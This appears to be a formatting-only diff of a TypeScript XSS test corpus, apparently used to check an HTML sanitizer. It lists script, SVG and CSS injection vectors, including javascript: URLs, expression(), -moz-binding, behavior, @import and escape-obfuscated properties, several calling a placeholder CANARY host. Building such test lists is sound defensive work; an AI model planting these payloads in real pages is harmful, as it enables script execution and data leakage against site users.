@@ -36,7 +36,8 @@ const FETCH = "fetch('http://CANARY/$ID')";
 
 const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
 const scriptPage = (id: string) => `<script>alert('XSS:${id}')</script>`;
-const scriptSvg = (id: string) => `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('XSS:${id}')"><script>alert('XSS:${id}')</script></svg>`;
+const scriptSvg = (id: string) =>
+  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('XSS:${id}')"><script>alert('XSS:${id}')</script></svg>`;
 
 function group(className: string, prefix: string, entries: Entry[], where?: XssVector['where']): XssVector[] {
   return entries.map((entry, index) => {
@@ -251,7 +252,7 @@ const CSS = group('css', 'css', [
   `<p style="background:url(javascript:${ALERT})">c</p>`,
   `<p style="width:expression(${ALERT})">c</p>`,
   '<p style="-moz-binding:url(http://CANARY/$ID.xml#xss)">c</p>',
-  "<p style=\"background-image:url('http://CANARY/$ID.png')\">c</p>",
+  '<p style="background-image:url(\'http://CANARY/$ID.png\')">c</p>',
   '<p style="behavior:url(http://CANARY/$ID.htc)">c</p>',
   "<style>@import 'http://CANARY/$ID.css';</style><p>c</p>",
   '<style>@import url("http://CANARY/$ID.css");</style><p>c</p>',
@@ -262,7 +263,7 @@ const CSS = group('css', 'css', [
   '<div style="back\\67 round:url(http://CANARY/$ID.png)">css escape</div>',
   '<div style="background:u\\72 l(http://CANARY/$ID.png)">css escape</div>',
   '<div style="content:url(http://CANARY/$ID.png)">x</div>',
-  "<div style=\"background:image-set('http://CANARY/$ID.png' 1x)\">x</div>",
+  '<div style="background:image-set(\'http://CANARY/$ID.png\' 1x)">x</div>',
   '<div style="cursor:url(http://CANARY/$ID.cur),auto">x</div>',
   '<div style="mask-image:url(http://CANARY/$ID.svg)">x</div>',
   `<style>/*</style><img src=x onerror=${ALERT}>*/</style>`,
